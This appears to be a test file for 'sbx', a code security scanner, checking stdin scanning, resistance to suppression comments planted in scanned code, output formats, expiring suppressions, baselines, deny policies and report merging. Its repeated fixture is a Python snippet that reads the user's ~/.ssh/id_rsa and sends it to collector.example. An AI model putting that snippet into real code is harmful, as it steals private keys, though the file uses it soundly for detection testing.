import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Report } from '../../src/model/report.ts';
import { sbx } from '../support/sbx.ts';
import { temporaryFolder, writeTree } from '../support/temporary.ts';

const THIEF =
  'import os, pathlib, urllib.request\n' +
  'key = pathlib.Path("~/.ssh/id_rsa").expanduser().read_bytes()\n' +
  'urllib.request.urlopen("https://collector.example/", data=key)\n';

describe('sbx scan -', () => {
  it('reads one file from standard input, by language or by content', async () => {
    const named = await sbx(['scan', '-', '--lang', 'python', '--format', 'json'], { input: THIEF });
    expect(named.status).toBe(1);
    expect(
      (JSON.parse(named.stdout) as Report).findings.some(({ location }) => location.path === 'stdin.py'),
    ).toBe(true);
    const shebang = await sbx(['scan', '-'], { input: `#!/usr/bin/env python3\n${THIEF}` });
    expect(shebang.status).toBe(1);
    expect((await sbx(['scan', '-', '--lang', 'shell'], { input: 'echo hello\n' })).status).toBe(0);
  });

  it('refuses a language it does not know', async () => {
    expect((await sbx(['scan', '-', '--lang', 'cobol'], { input: '' })).status).toBe(2);
  });
});

describe('what the target brings along to be left alone', () => {
  it('does not obey its ignore files, suppressions and configuration', async () => {
    const folder = writeTree({
      'steal.py': `# nosec\n# noqa\n${THIEF.replaceAll('\n', '  # nosec noqa sbx: ignore\n')}`,
      '.gitignore': '*\n',
      '.sbxignore': '*\n',
      'sbx.config.yaml':
        'schema: sbx.config/1\nsuppress:\n  - rule: secret-file-to-network\n    reason: trust me\n',
      'sbx.policy.yaml': 'schema: sbx.policy/1\nreject: []\n',
    });
    expect((await sbx(['scan', folder])).status).toBe(1);
  });
});

describe('what the operator decides', () => {
  it('writes several formats in one run', async () => {
    const folder = writeTree({ 'a.py': THIEF });
    const out = temporaryFolder();
    const outputs = ['json', 'sarif', 'markdown', 'html', 'junit'].flatMap((format) => [
      '--output',
      `${format}=${join(out, `report.${format}`)}`,
    ]);
    const { status, stdout } = await sbx(['scan', folder, ...outputs]);
    expect(status).toBe(1);
    expect(stdout).toBe('');
    for (const format of ['json', 'sarif', 'markdown', 'html', 'junit']) {
      expect(readFileSync(join(out, `report.${format}`), 'utf8')).toContain('secret');
    }
  });

  it('takes a reasoned suppression, keeps the finding, and lets it expire', async () => {
    const folder = writeTree({ 'a.py': THIEF });
    const before = JSON.parse((await sbx(['scan', folder, '--format', 'json'])).stdout) as Report;
    const rules = [...new Set(before.findings.map(({ ruleId }) => ruleId))];
    const config = (expires: string): string => {
      const entries = rules.map(
        (rule) => `  - rule: ${rule}\n    reason: looked at\n    expires: "${expires}"\n`,
      );
      return join(writeTree({ 'c.yaml': `schema: sbx.config/1\nsuppress:\n${entries.join('')}` }), 'c.yaml');
    };
    const suppressed = await sbx(['scan', folder, '--format', 'json', '--config', config('2999-01-01')]);
    expect(suppressed.status).toBe(0);
    const report = JSON.parse(suppressed.stdout) as Report;
    expect(report.findings).toHaveLength(before.findings.length);
    expect(report.findings.every((finding) => finding.suppressed?.reason === 'looked at')).toBe(true);
    expect((await sbx(['scan', folder, '--config', config('2020-01-01')])).status).toBe(1);
  });

  it('takes a baseline: only what is new counts, whatever the lines', async () => {
    const folder = writeTree({ 'a.py': THIEF });
    const baseline = join(temporaryFolder(), 'before.json');
    await sbx(['scan', folder, '--format', 'json', '--output', baseline]);
    writeTree({ 'a.py': `# a comment that moves every line\n\n${THIEF}` }, folder);
    expect((await sbx(['scan', folder, '--baseline', baseline])).status).toBe(0);
    writeTree({ 'b.py': THIEF.replace('id_rsa', 'id_ed25519') }, folder);
    expect((await sbx(['scan', folder, '--baseline', baseline])).status).toBe(1);
    const diff = await sbx(['report', 'diff', baseline, baseline]);
    expect(diff).toMatchObject({ status: 0, stdout: '0 new, 0 gone\n' });
  });

  it('denies capabilities by policy', async () => {
    const folder = writeTree({
      'a.py': 'import urllib.request\nurllib.request.urlopen("https://api.example/")\n',
    });
    const policy = join(
      writeTree({ 'p.yaml': 'schema: sbx.policy/1\ndeny:\n  net.connect: ["*.example"]\n' }),
      'p.yaml',
    );
    expect((await sbx(['scan', folder])).status).toBe(0);
    const denied = await sbx(['scan', folder, '--policy', policy, '--format', 'json']);
    expect(denied.status).toBe(1);
    expect((JSON.parse(denied.stdout) as Report).findings.map(({ ruleId }) => ruleId)).toContain(
      'denied-capability',
    );
  });

  it('fails only on rejection when told so', async () => {
    const folder = writeTree({
      'sbx.manifest.yaml': 'schema: sbx.manifest/1\ncapabilities: {}\n',
      'a.py': 'import urllib.request\nurllib.request.urlopen("https://api.example/")\n',
    });
    expect((await sbx(['vet', folder, '--backend', 'none'])).status).toBe(3);
    expect((await sbx(['vet', folder, '--backend', 'none', '--fail-on', 'reject'])).status).toBe(0);
  });
});

describe('sbx report', () => {
  it('renders and merges what was written', async () => {
    const folder = temporaryFolder();
    const bad = join(folder, 'bad.json');
    const good = join(folder, 'good.json');
    await sbx(['scan', writeTree({ 'a.py': THIEF }), '--format', 'json', '--output', bad]);
    await sbx(['scan', writeTree({ 'a.py': 'print(1)\n' }), '--format', 'json', '--output', good]);
    const rendered = await sbx(['report', 'render', bad, '--format', 'markdown']);
    expect(rendered.status).toBe(1);
    expect(rendered.stdout).toContain('# sbx: reject');
    const merged = await sbx(['report', 'merge', good, bad, '--format', 'json']);
    expect(merged.status).toBe(1);
    expect((JSON.parse(merged.stdout) as Report).units).toHaveLength(2);
    const diff = await sbx(['report', 'diff', good, bad, '--format', 'json']);
    expect(diff.status).toBe(3);
  });

  it('refuses what is no report', async () => {
    const file = join(writeTree({ 'x.json': '{"schema":"sbx.report/1"}' }), 'x.json');
    const { status, stderr } = await sbx(['report', 'render', file]);
    expect(status).toBe(2);
    expect(stderr).toMatch(/^sbx: .*x\.json is not an sbx report: the document must have required property/);
  });
});
